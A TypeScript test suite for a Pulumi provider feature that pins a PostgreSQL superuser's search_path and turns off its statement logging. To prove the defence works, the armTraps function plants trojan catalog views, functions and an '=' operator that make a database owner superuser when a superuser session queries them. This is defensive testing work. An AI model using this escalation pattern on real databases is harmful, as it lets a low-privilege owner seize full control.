// The admin role's own session settings (AdminRolePin) against a real
// PostgreSQL 16 that logs every statement, every error's statement and every
// bind parameter. What they stand for: a session that sends no startup
// options and names the catalog unqualified — as @pulumi/postgresql's do —
// gets search_path pinned over the owner's ALTER DATABASE … SET and its
// trojan views and functions, and logs no statement, failing or not.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import pg from "pg";
import { logCaughtUp, startPostgres, type TestPostgres } from "../helpers/postgres";
import { create, diff, expectedSettings, update } from "../../src/provider/admin-role-pin-handler";

let pgs: TestPostgres;
let serverLog = "";
const db = "piyasa_db";
const ownerPassword = "owner-" + Math.random().toString(36).slice(2) + "-Secret";

before(async () => {
  pgs = await startPostgres({
    onLog: (m) => (serverLog += m + "\n"),
    flags: [
      "-c",
      "log_statement=all",
      "-c",
      "log_min_error_statement=debug5",
      "-c",
      "log_min_duration_statement=0",
      "-c",
      "log_parameter_max_length=-1",
      "-c",
      "log_parameter_max_length_on_error=-1",
    ],
  });
  await pgs.query(`CREATE DATABASE ${db}`);
  await pgs.query(`CREATE ROLE piyasa_user LOGIN PASSWORD '${ownerPassword}'`);
  await pgs.query(`ALTER DATABASE ${db} OWNER TO piyasa_user`);
});
after(async () => pgs?.stop());

const inputs = () => ({ adminUrl: pgs.url(db), tunnel: null });
const isSuper = async () => (await pgs.query<{ s: boolean }>("SELECT rolsuper AS s FROM pg_roles WHERE rolname = 'piyasa_user'"))[0]!.s;

/** A superuser session as the plugin opens one: no startup options, catalog names unqualified. */
async function pluginLikeSession<T>(database: string, fn: (c: pg.Client) => Promise<T>): Promise<T> {
  const c = new pg.Client({ host: "127.0.0.1", port: pgs.port, user: "postgres", password: pgs.password, database });
  await c.connect();
  try {
    return await fn(c);
  } finally {
    await c.end();
  }
}

// The owner arms every trap it can in its own database: the database's
// search_path puts public first; public holds catalog look-alikes that make
// the owner superuser when a superuser reads them; a "$user" schema named
// after the admin; an `=` operator for name = text.
async function armTraps(): Promise<void> {
  const owner = new pg.Client({ host: "127.0.0.1", port: pgs.port, user: "piyasa_user", password: ownerPassword, database: db });
  await owner.connect();
  await owner.query(`ALTER DATABASE ${db} SET search_path = "$user", public, pg_catalog`);
  await owner.query(`CREATE FUNCTION public.escalate() RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN EXECUTE 'ALTER ROLE piyasa_user SUPERUSER'; RETURN true; EXCEPTION WHEN insufficient_privilege THEN RETURN true; END $$`);
  for (const view of ["pg_roles", "pg_class", "pg_namespace", "pg_auth_members", "pg_database"]) {
    await owner.query(`CREATE VIEW public.${view} AS SELECT * FROM pg_catalog.${view} WHERE public.escalate()`);
  }
  await owner.query(`CREATE FUNCTION public.aclexplode(aclitem[]) RETURNS TABLE(grantor oid, grantee oid, privilege_type text, is_grantable boolean)
    LANGUAGE sql AS $$ SELECT * FROM pg_catalog.aclexplode($1) WHERE public.escalate() $$`);
  await owner.query(
    `CREATE FUNCTION public.name_eq_text(name, text) RETURNS boolean LANGUAGE sql AS $$ SELECT public.escalate() AND $1::text OPERATOR(pg_catalog.=) $2 $$`,
  );
  await owner.query("CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.name_eq_text)");
  await owner.query("CREATE SCHEMA postgres");
  await owner.query("CREATE VIEW postgres.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE public.escalate()");
  await owner.end();
}

// What the plugin runs in the application database (its grant reads) and the maintenance one (its role reads).
const pluginQueries = [
  `SELECT pg_class.relname, array_remove(array_agg(privilege_type), NULL) FROM pg_class
     JOIN pg_namespace ON pg_namespace.oid = pg_class.relnamespace
     LEFT JOIN (SELECT acls.* FROM (SELECT relname, relnamespace, relkind, (aclexplode(relacl)).* FROM pg_class c) AS acls WHERE grantee = 10) privs
     USING (relname, relnamespace, relkind) WHERE nspname = 'public' GROUP BY pg_class.relname`,
  "SELECT rolname FROM pg_roles WHERE rolname = 'piyasa_user'::text",
  "SELECT datname FROM pg_database WHERE datname = 'piyasa_db'::text",
];

test("the traps are live: an unpinned superuser session running the plugin's queries makes the owner superuser", async () => {
  await armTraps();
  await pluginLikeSession(db, async (c) => {
    for (const q of pluginQueries) await c.query(q);
  });
  assert.equal(await isSuper(), true, "the trap springs in a session that trusts the database's search_path");
  await pgs.query("ALTER ROLE piyasa_user NOSUPERUSER");
});

test("pinned: the same queries in a plain superuser session leave the owner an ordinary role; the settings are the admin role's own", async () => {
  const created = await create(inputs());
  assert.equal(created.id, "postgres");
  const stored = await pgs.query<{ setconfig: string[] }>("SELECT setconfig FROM pg_db_role_setting WHERE setrole = 'postgres'::regrole AND setdatabase = 0");
  assert.deepEqual([...stored[0]!.setconfig].sort(), [...expectedSettings()].sort());
  for (const database of [db, "postgres"]) {
    const path = await pluginLikeSession(database, async (c) => {
      for (const q of pluginQueries) await c.query(q);
      return (await c.query<{ p: string }>("SELECT pg_catalog.current_setting('search_path') AS p")).rows[0]!.p;
    });
    assert.equal(path, "pg_catalog, pg_temp", `in ${database}`);
  }
  assert.equal(await isSuper(), false, "the owner did not become superuser");
});

test("diff notices the settings gone (a restored dump, a hand edit) and update puts them back", async () => {
  assert.equal((await diff("postgres", inputs(), inputs())).changes, false);
  await pgs.query("ALTER ROLE postgres RESET search_path");
  assert.equal((await diff("postgres", inputs(), inputs())).changes, true);
  await update("postgres", inputs(), inputs());
  assert.equal((await diff("postgres", inputs(), inputs())).changes, false);
});

test("a plain admin session logs no statement, failing or succeeding, nor a bind parameter", async () => {
  const markers = ["ok-" + Math.random().toString(36).slice(2), "fail-" + Math.random().toString(36).slice(2), "param-" + Math.random().toString(36).slice(2)];
  await pluginLikeSession("postgres", async (c) => {
    await c.query(`CREATE ROLE piyasa_app LOGIN PASSWORD '${markers[0]}'`);
    await assert.rejects(c.query(`ALTER ROLE no_such_role PASSWORD '${markers[1]}'`), /does not exist/);
    await c.query("SELECT length($1)", [markers[2]]);
  });
  // Another role's statements are still logged: the test could see a leak.
  const owner = new pg.Client({ host: "127.0.0.1", port: pgs.port, user: "piyasa_user", password: ownerPassword, database: db });
  await owner.connect();
  await owner.query(`COMMENT ON DATABASE ${db} IS 'logged-marker'`);
  await owner.end();
  await logCaughtUp(pgs, () => serverLog);
  assert.match(serverLog, /statement: COMMENT ON DATABASE piyasa_db IS 'logged-marker'/);
  assert.match(serverLog, /role "no_such_role" does not exist/, "the error itself is logged");
  for (const m of markers) assert.ok(!serverLog.includes(m), `${m.split("-")[0]}: in the server log`);
});
